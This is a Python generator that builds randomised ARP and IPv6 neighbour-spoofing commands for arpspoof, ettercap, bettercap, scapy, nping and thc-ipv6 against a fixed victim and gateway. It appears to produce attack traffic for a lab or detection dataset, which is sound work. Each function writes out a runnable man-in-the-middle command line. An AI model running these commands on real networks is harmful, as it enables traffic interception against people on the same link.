"""Forgeries on the victim's link, always by a neighbour: each tool with what people set at it."""

GATEWAY = "10.20.0.1"
MAC = "02:00:5e:00:02:9e"


def forger(make):
    def made(s):
        s.place, s.six, s.who = "near", False, MAC
        s.victim = "10.20.0.101"
        return make(s)
    return made


@forger
def arpspoof(s):
    words = f"arpspoof {s.one('', '-r')} -t 10.20.0.101 {GATEWAY}" if s.r.random() < 0.8 else f"arpspoof {GATEWAY}"
    return words, s.between(10, 25), words.replace("arpspoof", "arpspoof -i eth0", 1)


@forger
def ettercap(s):
    words = f"ettercap -T -q {s.maybe(.5, '-o')} -M arp:{s.one('remote', 'remote', 'oneway', '')} {s.one('/10.20.0.101// /10.20.0.1//', '/10.20.0.1// /10.20.0.101//')}".replace("arp: ", "arp ")
    return words, 25, words.replace("-T", "-T -i eth0", 1)


@forger
def bettercap(s):
    words = f"bettercap arp.spoof targets 10.20.0.101 fullduplex {s.one('true', 'false')} internal {s.one('true', 'false')} recon {s.one('on', 'off')}".split()
    return " ".join(words), 30, f"ping -q -c 1 {GATEWAY}; ping -q -c 1 10.20.0.101; bettercap -no-colors -iface eth0 -gateway-override {GATEWAY} -eval 'net.recon {words[9]}; set arp.spoof.targets 10.20.0.101; set arp.spoof.fullduplex {words[5]}; set arp.spoof.internal {words[7]}; arp.spoof on; sleep 15; exit'"


@forger
def scapy(s):
    inter, count, op, to = s.one(0.5, 1, 2, 5), s.one(6, 12, 20), s.one(1, 2, 2), s.one(("ff:ff:ff:ff:ff:ff", GATEWAY), ("02:00:5e:00:02:65", "10.20.0.101"), ("02:00:5e:00:02:65", "10.20.0.101"))
    words = f"scapy ARP op {op} claims {GATEWAY} to {to[1]} each {inter} s"
    return words, 40, f"""/usr/bin/python3 -c "from scapy.all import *; sendp(Ether(dst='{to[0]}')/ARP(op={op},hwsrc='{MAC}',psrc='{GATEWAY}',hwdst='{to[0]}',pdst='{to[1]}'),iface='eth0',inter={inter},count={count},verbose=0)" """


@forger
def nping(s):
    words = f"nping --arp-type ARP-reply --arp-sender-mac {MAC} --arp-sender-ip {GATEWAY} --arp-target-ip 10.20.0.101 --rate {s.one(1, 2, 10)} -c {s.one(10, 20)} 10.20.0.101"
    return words, 25, words


@forger
def six(s):
    s.six, s.victim = True, "2001:db8:20::101"
    words = s.one("atk6-fake_advertise6 eth0 2001:db8:20::1", "atk6-parasite6 -l eth0", "atk6-fake_router26 -A 2001:db8:bad::/64 eth0")
    if "router" in words or "parasite" in words:
        s.victim = ""
    s.aside = ("desk", "sleep 4; for i in 1 2 3 4 5 6; do ip -6 neigh flush dev eth0; ping -6 -c 2 -W 1 2001:db8:20::1; sleep 1; done")
    return words, 20, words


LINK = {"arpspoof": (arpspoof, 3), "ettercap": (ettercap, 2), "bettercap": (bettercap, 2), "scapy": (scapy, 2), "nping": (nping, 1), "thc-ipv6": (six, 2)}
